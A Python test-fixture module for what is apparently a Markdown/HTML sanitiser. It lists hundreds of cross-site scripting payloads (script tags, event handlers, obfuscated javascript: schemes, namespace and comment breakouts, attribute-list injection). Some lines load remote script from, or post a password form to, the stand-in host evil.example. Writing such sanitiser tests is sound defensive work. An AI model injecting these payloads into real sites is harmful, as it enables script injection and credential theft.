"""Hostile inputs of our own: what an attacker would type into any field that reaches a page.

Each is a short text. Built from a few dozen vectors, each also written the
ways filters are usually fooled: entity-encoded, mixed case, with
whitespace or control characters inside the scheme.
"""

SCRIPT_AND_STYLE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
]

ELEMENT_KINDS = [
    "p", "div", "span", "a", "img", "font", "table", "td", "th", "blockquote", "details",
    "summary", "h2", "li", "ul", "pre", "code", "video", "audio", "body", "input", "button",
    "select", "textarea", "marquee", "iframe",
]  # fmt: skip
EVENT_HANDLERS = [
    f'<{tag} onclick="alert(1)" onmouseover=alert(1) onerror=alert(1) onfocus=alert(1) autofocus>x</{tag}>'
    for tag in ELEMENT_KINDS
] + [
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<svg onload="alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<p onpointerenter="alert(1)">x</p>',
]

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "&#0000106avascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)",
    "jar:https://evil.example/x.jar!/",
]
URLS_IN_PLACES = [
    template.format(url=url)
    for url in SCHEMES
    for template in (
        '<a href="{url}">点我</a>',
        "[点我]({url})",
        "![图]({url})",
    )
] + [
    f'<img src="{SCHEMES[0]}">',
    f'<form action="{SCHEMES[0]}"><button>送出</button></form>',
    f'<button formaction="{SCHEMES[0]}">送出</button>',
    f'<a xlink:href="{SCHEMES[0]}">x</a>',
    f'<video poster="{SCHEMES[0]}"></video>',
    f'<table background="{SCHEMES[0]}"><tr><td>x</td></tr></table>',
]

MARKDOWN_TRICKS = [
    "[a][ref]\n\n[ref]: javascript:alert(1)",
    '[a][ref]\n\n[ref]: javascript:alert(1) "title"',
    '[a](javascript:alert(1) "t")',
    "[a](<javascript:alert(1)>)",
    "[a](java&#115;cript:alert(1))",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x](\\javascript:alert(1))",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    "> <iframe src=javascript:alert(1)>\n{.is-danger}",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]

IFRAMES_AND_EMBEDDING = [
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="//player.bilibili.com.evil.example/player.html"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x"></applet>',
    '<form action="https://evil.example/"><input name=password></form>',
    '<portal src="https://evil.example/"></portal>',
]

NAMESPACES = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
]

BREAKOUTS = [
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    # A paragraph's end inside an attribute, where the correction link is added after the paragraph.
    '<span title="</p><img src=x onerror=alert(1)>">段落</span>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '{"@context": "</script><script>alert(1)</script>"}',
]

ATTRIBUTE_LISTS = [
    "段落\n{ onclick=alert(1) }",
    "段落\n{: .x onmouseover=alert(1) }",
    "段落 {: onclick=alert(1) }",
    "# 标题 { onclick=alert(1) }",
    '# 标题 {: #x onclick="alert(1)" }',
    "[链接](https://example.org){: href=javascript:alert(1) }",
    "[链接](https://example.org){ onclick=alert(1) }",
    "![图](https://example.org/x.png){: onerror=alert(1) }",
    "> 提示\n{.is-warning onclick=alert(1)}",
    '> 提示\n{: style="background:url(javascript:alert(1))" }',
    "段落\n{: .is-info srcdoc=x }",
    "- 项目\n{: .links-list onfocus=alert(1) autofocus }",
]

OVERSIZED = [
    "长" * 100_000,
    "<div>" * 5_000 + "x",
    "[" * 3_000,
]

FAMILIES = [
    SCRIPT_AND_STYLE,
    EVENT_HANDLERS,
    URLS_IN_PLACES,
    MARKDOWN_TRICKS,
    IFRAMES_AND_EMBEDDING,
    NAMESPACES,
    BREAKOUTS,
    ATTRIBUTE_LISTS,
]
HOSTILE_INPUTS = [text for family in FAMILIES for text in family] + OVERSIZED
# Two of each family: what `make test-fast` tries; `make test` tries them all.
REPRESENTATIVE = {text for family in FAMILIES for text in family[:2]}
